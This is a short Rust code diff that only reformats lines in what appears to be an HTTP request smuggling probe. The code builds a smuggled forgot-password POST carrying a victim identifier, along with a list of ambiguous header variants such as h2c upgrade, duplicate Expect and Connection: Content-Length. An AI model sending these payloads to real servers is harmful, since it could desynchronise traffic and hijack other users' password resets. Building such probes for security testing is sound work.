@@ -14,7 +14,10 @@ pub struct Vector {
 /// The request that must not be heard.
 fn smuggled() -> String {
     let body = format!("identifier={VICTIM}");
-    format!("POST {FORGOT_PASSWORD}?smuggled HTTP/1.1\r\n{HOST}{FORM}Content-Length: {}\r\n\r\n{body}", body.len())
+    format!(
+        "POST {FORGOT_PASSWORD}?smuggled HTTP/1.1\r\n{HOST}{FORM}Content-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
 }
 
 fn head(lines: &str) -> String {
@@ -190,7 +193,9 @@ fn heads() -> Vec<String> {
         format!("{length}\r\nX: \u{1b}[2J"),
         format!("Connection: Content-Length\r\n{length}"),
         format!("Connection: close, Content-Length\r\n{length}"),
-        format!("Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n{length}"),
+        format!(
+            "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n{length}"
+        ),
         format!("Expect: 100-continue\r\n{length}"),
         format!("Expect: 100-continue\r\nExpect: 100-continue\r\n{length}"),
         format!("Expect: 200-ok\r\n{length}"),
